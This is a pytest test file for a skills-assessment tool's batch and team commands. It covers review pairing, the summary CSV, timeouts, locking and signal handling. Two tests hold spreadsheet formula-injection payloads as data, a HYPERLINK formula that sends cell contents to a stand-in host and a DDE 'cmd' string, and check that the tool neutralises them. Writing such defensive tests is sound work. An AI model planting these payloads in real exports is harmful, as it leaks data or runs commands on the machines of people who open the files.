"""Batch and team: reviews paired with the self-assessments they review, the summary, names."""

from __future__ import annotations

import csv
import datetime as dt
import io
import json
import shutil
import signal
import subprocess
import sys
import time
from collections.abc import Callable
from pathlib import Path

import psutil
import pytest
from click.testing import CliRunner

from sfia_assess.batch import plan as batch_plan
from sfia_assess.batch import report as batch_report
from sfia_assess.batch.run import make_reports, run_batch
from sfia_assess.cli.main import cli
from sfia_assess.core.assessment import parse_assessment
from sfia_assess.core.catalog import Catalog
from sfia_assess.core.pairing import Card, pair_reviews
from sfia_assess.core.policy import Policy
from sfia_assess.files.csvfile import csv_text, safe_cell
from sfia_assess.files.folders import assessment_files, safe_stem
from sfia_assess.files.output import prepare_folder
from sfia_assess.reports import Format

from .conftest import EXAMPLES, assessment_data, evidenced
from .data.make_team import make_team


def summary_rows(out: Path) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO((out / "summary.csv").read_text("utf-8"))))


def test_examples_batch_gives_five_people_with_priyas_agreed_level(
    runner: CliRunner, tmp_path: Path
) -> None:
    out = tmp_path / "out"
    result = runner.invoke(cli, ["batch", str(EXAMPLES), "-o", str(out), "--format", "json"])
    assert result.exit_code == 0, result.output
    assert sorted(p.name for p in out.iterdir()) == [
        "alex-kim.json",
        "jordan-park.json",
        "morgan-ellis.json",
        "priya-nair.json",
        "sam-lee.json",
        "summary.csv",
    ]
    rows = {r["person"]: r for r in summary_rows(out)}
    assert len(rows) == 5
    priya = rows["Priya Nair"]
    assert (priya["recommended_level"], priya["agreed_level"]) == ("4", "3")
    assert priya["assessor"] == "Daniel Okafor (manager)"
    assert priya["review"].endswith("priya-nair-manager.yaml")
    assert priya["status"] == "made"
    assert rows["Jordan Park"]["sfia_version"] == "8"
    assert {r["sfia_version"] for n, r in rows.items() if n != "Jordan Park"} == {"9"}
    assert rows["Sam Lee"]["agreed_level"] == ""
    assert rows["Sam Lee"]["assessor"] == "Sam Lee (self)"
    record = json.loads((out / "priya-nair.json").read_text("utf-8"))
    assert record["kind"] == "review"


def test_examples_team_counts_five_people_with_the_agreed_level(runner: CliRunner) -> None:
    result = runner.invoke(cli, ["team", str(EXAMPLES), "--format", "json"])
    assert result.exit_code == 0, result.output
    view = json.loads(result.output)
    people = {p["name"]: p for p in view["people"]}
    assert len(people) == 5
    assert view["basis"] == "agreed"
    priya = people["Priya Nair"]
    assert (priya["recommended_level"], priya["self_level"], priya["agreed_level"]) == (3, 4, 3)
    assert priya["reviewed_by"] == "Daniel Okafor"
    assert people["Jordan Park"]["sfia_version"] == 8
    assert sum(count for _, count in view["distribution"]) == 5
    own = json.loads(
        runner.invoke(cli, ["team", str(EXAMPLES), "--format", "json", "--level", "self"]).output
    )
    assert next(p for p in own["people"] if p["name"] == "Priya Nair")["recommended_level"] == 4
    text = runner.invoke(cli, ["team", str(EXAMPLES)]).output
    assert "5 people" in text and "Jordan Park (SFIA 8)" in text


def _file(catalog: Catalog, name: str, relation: str, on: dt.date, who: str = "Sam Lee") -> Card:
    data = assessment_data(**evidenced(["USUP-3.1"], date=dt.date(2026, 7, 1)), assessed_on=on)
    data["subject"]["name"] = who
    data["assessor"] = {
        "name": "Sam Lee" if relation == "self" else "Dana Boss",
        "relation": relation,
    }
    import yaml

    return Card.of(parse_assessment(yaml.safe_dump(data), name, catalog))


def test_a_review_goes_with_the_nearest_earlier_self_assessment(catalog: Catalog) -> None:
    early = _file(catalog, "early.yaml", "self", dt.date(2026, 9, 1))
    late = _file(catalog, "late.yaml", "self", dt.date(2026, 9, 15))
    of_early = _file(catalog, "r1.yaml", "manager", dt.date(2026, 9, 10))
    of_late = _file(catalog, "r2.yaml", "manager", dt.date(2026, 9, 20))
    again = _file(catalog, "r3.yaml", "manager", dt.date(2026, 9, 25))
    orphan = _file(catalog, "r4.yaml", "manager", dt.date(2026, 8, 1))
    other = _file(catalog, "r5.yaml", "peer", dt.date(2026, 9, 30), who="Kim Other")
    people, unpaired = pair_reviews([again, early, of_late, late, of_early, orphan, other])
    assert [(p.own.source, p.review and p.review.source) for p in people] == [
        ("early.yaml", "r1.yaml"),
        ("late.yaml", "r3.yaml"),
    ]
    reasons = {u.review.source: (u.failed, u.reason) for u in unpaired}
    assert reasons["r2.yaml"] == (
        False,
        "r2.yaml: not used; the later review r3.yaml of the same self-assessment counts",
    )
    assert (
        reasons["r4.yaml"][0]
        and "no self-assessment of Sam Lee (USUP, SFIA 9) dated 2026-08-01 or earlier"
        in reasons["r4.yaml"][1]
    )
    assert reasons["r5.yaml"][0]


def test_a_review_without_its_self_assessment_fails_in_the_summary(
    runner: CliRunner, tmp_path: Path
) -> None:
    team = tmp_path / "team"
    team.mkdir()
    shutil.copy(EXAMPLES / "priya-nair-manager.yaml", team)
    shutil.copy(EXAMPLES / "sam-lee-analyst.yaml", team)
    out = tmp_path / "out"
    result = runner.invoke(cli, ["batch", str(team), "-o", str(out), "--format", "json"])
    assert result.exit_code == 1
    assert (
        "a review by Daniel Okafor (manager) with no self-assessment of Priya Nair" in result.output
    )
    rows = summary_rows(out)
    assert [r["status"] for r in rows] == ["failed", "made"]
    assert sorted(p.name for p in out.iterdir()) == ["sam-lee.json", "summary.csv"]
    view = runner.invoke(cli, ["team", str(team), "--format", "json"])
    assert len(json.loads(view.output)["people"]) == 1


def test_csv_cells_that_a_spreadsheet_would_run_are_neutralised() -> None:
    for bad in [
        '=HYPERLINK("http://x/?"&A1,"Click")',
        "+cmd|' /C calc'!A0",
        "-2+3",
        "@SUM(A1)",
        "\tx",
        "\rx",
    ]:
        assert safe_cell(bad) == "'" + bad
    assert safe_cell("Sam Lee") == "Sam Lee" and safe_cell(3) == 3
    assert csv_text(["a"], [["=1+1"]]) == "a\n'=1+1\n"


def test_summary_csv_neutralises_a_formula_in_a_name(
    runner: CliRunner, tmp_path: Path, write_yaml: Callable[..., Path]
) -> None:
    data = assessment_data(**evidenced(["USUP-3.1"]))
    data["subject"] = {"name": '=HYPERLINK("http://x/?"&A1,"Click")', "role": "@SUM(A1)"}
    (tmp_path / "team").mkdir()
    write_yaml(data, name="team/p.yaml")
    out = tmp_path / "out"
    assert (
        runner.invoke(
            cli, ["batch", str(tmp_path / "team"), "-o", str(out), "--format", "json"]
        ).exit_code
        == 0
    )
    row = summary_rows(out)[0]
    assert row["person"] == '\'=HYPERLINK("http://x/?"&A1,"Click")'
    assert row["role"] == "'@SUM(A1)"


def test_file_names_stay_under_255_bytes_with_the_temporary_name(
    runner: CliRunner, tmp_path: Path, write_yaml: Callable[..., Path]
) -> None:
    name = "\U00013000" * 60  # 4 bytes each in UTF-8
    assert len(safe_stem(name).encode("utf-8")) <= 150
    data = assessment_data(**evidenced(["USUP-3.1"]))
    data["subject"]["name"] = name
    (tmp_path / "team").mkdir()
    write_yaml(data, name="team/p.yaml")
    out = tmp_path / "out"
    result = runner.invoke(
        cli, ["batch", str(tmp_path / "team"), "-o", str(out), "--format", "json"]
    )
    assert result.exit_code == 0, result.output
    (made,) = [p for p in out.iterdir() if p.suffix == ".json"]
    assert len(made.name.encode("utf-8")) <= 160


def _slow_for(victim: str) -> Callable[..., object]:
    real = batch_report.render

    def render(report: object, fmt: object, **kw: object) -> object:
        if report.result.subject.name == victim:  # type: ignore[attr-defined]
            time.sleep(30)
        return real(report, fmt, **kw)  # type: ignore[arg-type]

    return render


def test_a_report_past_the_time_limit_fails_alone(
    tmp_path: Path, write_yaml: Callable[..., Path], monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(
        batch_report, "render", _slow_for("Slow Coach")
    )  # inherited by forked workers
    (tmp_path / "team").mkdir()
    for i, name in enumerate(["Ann One", "Slow Coach", "Bob Two"]):
        data = assessment_data(**evidenced(["USUP-3.1"]))
        data["subject"]["name"] = name
        write_yaml(data, name=f"team/p{i}.yaml")
    out = tmp_path / "out"
    started = time.monotonic()
    outcome = run_batch(
        tmp_path / "team",
        out,
        fmt=Format.JSON,
        jobs=2,
        policy=Policy(),
        skills_dirs=(),
        generated_on=dt.date(2026, 11, 1),
        time_limit=1.5,
    )
    assert time.monotonic() - started < 15
    (slow,) = outcome.failed
    assert slow.status == "timed out"
    assert "took longer than 1.5 s (--time-limit)" in (slow.error or "")
    assert sorted(p.name for p in out.iterdir()) == ["ann-one.json", "bob-two.json", "summary.csv"]
    assert [r["status"] for r in summary_rows(out)] == ["made", "timed out", "made"]


def test_a_second_run_into_a_busy_folder_is_refused_and_touches_nothing(
    runner: CliRunner, tmp_path: Path, write_yaml: Callable[..., Path]
) -> None:
    (tmp_path / "team").mkdir()
    write_yaml(assessment_data(**evidenced(["USUP-3.1"])), name="team/p.yaml")
    out = tmp_path / "out"
    out.mkdir()
    theirs = out / ".sam-lee.json.abc123.part"  # looks like a temporary file of another run
    theirs.write_text("x", encoding="utf-8")
    (out / "summary.csv").write_text("theirs\n", encoding="utf-8")
    with prepare_folder(out, lock_name=".sfia-assess-batch.lock"):  # another run holds it
        result = runner.invoke(
            cli, ["batch", str(tmp_path / "team"), "-o", str(out), "--format", "json"]
        )
        assert result.exit_code == 1
        assert "another sfia-assess batch is writing into this folder" in result.output
        assert (out / "summary.csv").read_text("utf-8") == "theirs\n"
    result = runner.invoke(
        cli, ["batch", str(tmp_path / "team"), "-o", str(out), "--format", "json"]
    )
    assert result.exit_code == 0, result.output
    assert theirs.exists()  # a run removes only its own temporary files
    assert sorted(p.name for p in out.iterdir()) == [theirs.name, "sam-lee.json", "summary.csv"]


@pytest.mark.parametrize("where", ["file/out", "file"])
def test_batch_output_that_cannot_be_a_folder_is_one_clear_sentence(
    runner: CliRunner, tmp_path: Path, where: str
) -> None:
    (tmp_path / "file").write_text("x", encoding="utf-8")
    result = runner.invoke(cli, ["batch", str(EXAMPLES), "-o", str(tmp_path / where)])
    assert result.exit_code == 1
    assert result.output.startswith(f"Error: {tmp_path / where}: ")
    assert "Traceback" not in result.output and len(result.output.splitlines()) == 1


def _start_batch(tmp_path: Path, people: int = 30) -> tuple[subprocess.Popen[bytes], Path]:
    team = tmp_path / "team"
    make_team(team, people)
    out = tmp_path / "out"
    out.mkdir()
    (out / "summary.csv").write_text("an old summary\n", encoding="utf-8")
    command = [sys.executable, "-m", "sfia_assess", "batch", str(team), "-o", str(out)]
    process = subprocess.Popen(
        [*command, "--format", "pdf", "--jobs", "2", "--quiet"],
        stdout=subprocess.DEVNULL,
        stderr=subprocess.PIPE,
    )
    deadline = time.monotonic() + 60
    while not any(p.suffix == ".pdf" for p in out.iterdir()):  # under way: reports are coming
        assert process.poll() is None and time.monotonic() < deadline
        time.sleep(0.05)
    return process, out


def _workers(process: subprocess.Popen[bytes]) -> list[psutil.Process]:
    workers = psutil.Process(process.pid).children(recursive=True)
    assert workers, "the batch runs its reports in worker processes"
    return workers


@pytest.mark.parametrize("signum", [signal.SIGINT, signal.SIGTERM])
def test_ctrl_c_or_sigterm_stops_soon_keeps_the_made_reports_and_a_true_summary(
    tmp_path: Path, signum: signal.Signals
) -> None:
    process, out = _start_batch(tmp_path)
    workers = _workers(process)
    process.send_signal(signum)
    started = time.monotonic()
    time.sleep(0.05)
    process.send_signal(signum)  # impatient: a second one must not cut the clean-up short
    _, err = process.communicate(timeout=30)
    assert time.monotonic() - started < 2.5
    assert process.returncode == 128 + signum
    assert f"stopped by {signum.name}" in err.decode()
    assert "Traceback" not in err.decode()
    _, alive = psutil.wait_procs(workers, timeout=2)
    assert not alive
    rows = summary_rows(out)
    assert len(rows) == 30
    made = {r["file"] for r in rows if r["status"] == "made"}
    assert made and made == {p.name for p in out.iterdir() if p.suffix == ".pdf"}
    assert all(
        r["error"].endswith(f"not made ({signum.name})") for r in rows if r["status"] != "made"
    )
    assert any(r["status"] == "not made" for r in rows)
    assert not [p for p in out.iterdir() if p.name.startswith(".")]  # no temp files, no lock


def test_sigkill_of_the_batch_takes_its_workers_with_it(tmp_path: Path) -> None:
    process, out = _start_batch(tmp_path)
    workers = _workers(process)
    process.kill()
    process.communicate(timeout=10)
    _, alive = psutil.wait_procs(workers, timeout=3)
    assert not alive
    assert not (out / "summary.csv").exists()  # the old one never stands beside new reports


def _copy_examples(folder: Path) -> None:
    for example in EXAMPLES.glob("*.yaml"):
        shutil.copy(example, folder / example.name)


def _example_jobs(folder: Path, out: Path) -> dict[str, batch_plan.Job]:
    """The batch's jobs for the examples copied to `folder`, by person, as `run_batch` plans them."""
    _copy_examples(folder)
    cards, failed = batch_plan.load_all(assessment_files(folder), Catalog())
    assert failed == []
    planned, _ = batch_plan.plan(cards, out, Format.JSON)
    policy = Policy()
    return {
        own.name: batch_plan.Job(
            Path(own.source),
            own,
            review,
            target,
            Format.JSON,
            (),
            policy,
            dt.date(2026, 11, 1),
            ".",
        )
        for own, review, target in planned
    }


def test_the_parent_keeps_cards_and_each_worker_checks_its_file_again(tmp_path: Path) -> None:
    """Memory flat over 1,000 people: the batch holds a few words per file, and the
    worker reads the file again, so what it renders is what it has just validated."""
    (tmp_path / "team").mkdir()
    (tmp_path / "out").mkdir()
    jobs = _example_jobs(tmp_path / "team", tmp_path / "out")
    assert all(type(job.own) is Card for job in jobs.values())
    sam = jobs["Sam Lee"]
    path = Path(sam.own.source)

    # changed since the check, but still Sam's: the report says what the file says now
    text = path.read_text("utf-8")
    path.write_text(text.replace("USUP-1.4: usually", "USUP-1.4: sometimes"), "utf-8")
    assert batch_report.run_job(sam).status == "made"
    statements = json.loads(sam.target.read_text("utf-8"))["statements"]
    assert [s["rating"] for s in statements if s["id"] == "USUP-1.4"] == ["sometimes"]

    # now broken: refused with the file's own error, no report written
    sam.target.unlink()
    path.write_text(path.read_text("utf-8").replace("relation: self", "relation: boss"), "utf-8")
    done = batch_report.run_job(sam)
    assert done.status == "failed" and done.error is not None
    assert str(path) in done.error and "relation" in done.error
    assert done.row.person == "Sam Lee" and not sam.target.exists()

    # someone else's now: pairing was decided on the old card, so the report is not made
    priya = jobs["Priya Nair"]
    assert priya.reviewed_by is not None
    review = Path(priya.reviewed_by.source)
    review.write_text(review.read_text("utf-8").replace("Priya Nair", "Priya Naik"), "utf-8")
    done = batch_report.run_job(priya)
    assert done.status == "failed"
    assert done.error == (
        f"{review}: its person changed while the batch ran (person Priya Nair is now Priya Naik);"
        f" run the batch again\n{priya.source}: not made: the manager's review of it, above,"
        " could not be used"
    )
    assert not priya.target.exists()

    # the person's own file renamed, and another removed: each refused in one sentence
    path.write_text(text.replace("Sam Lee", "Sam Leigh"), "utf-8")
    done = batch_report.run_job(sam)
    assert done.error == (
        f"{path}: its person and assessor changed while the batch ran (person Sam Lee is now"
        " Sam Leigh); run the batch again"
    )
    alex = jobs["Alex Kim"]
    Path(alex.own.source).unlink()
    done = batch_report.run_job(alex)
    assert done.error == f"{alex.source}: removed while the batch ran; run the batch again"
    assert not alex.target.exists()


def test_files_changed_between_the_check_and_the_workers(tmp_path: Path) -> None:
    """The whole path, real worker pool included: the parent checks, the files change, the
    workers refuse what no longer matches and make the rest."""
    team, out = tmp_path / "team", tmp_path / "out"
    team.mkdir()
    _copy_examples(team)
    texts: dict[str, str] = {}
    cards, failed = batch_plan.load_all(assessment_files(team), Catalog(), texts=texts)
    assert failed == [] and len(cards) == len(texts) == 6
    sam = team / "sam-lee-analyst.yaml"
    assert texts[str(sam)] == sam.read_text("utf-8")  # what was checked, for the job queue
    sam.write_text(sam.read_text("utf-8").replace("Sam Lee", "Sam Leigh"), "utf-8")
    (team / "alex-kim-overrated.yaml").unlink()
    outcome = make_reports(
        cards,
        out,
        fmt=Format.JSON,
        jobs=2,
        policy=Policy(),
        skills_dirs=(),
        generated_on=dt.date(2026, 11, 1),
    )
    errors = sorted(str(item.error) for item in outcome.failed)
    assert errors == [
        f"{team / 'alex-kim-overrated.yaml'}: removed while the batch ran; run the batch again",
        f"{sam}: its person and assessor changed while the batch ran (person Sam Lee is now"
        " Sam Leigh); run the batch again",
    ]
    made = sorted(p.name for p in out.glob("*.json"))
    assert made == ["jordan-park.json", "morgan-ellis.json", "priya-nair.json"]
    summary = (out / "summary.csv").read_text("utf-8")
    assert "Sam Lee," in summary and "Alex Kim," in summary  # their rows say who was not made
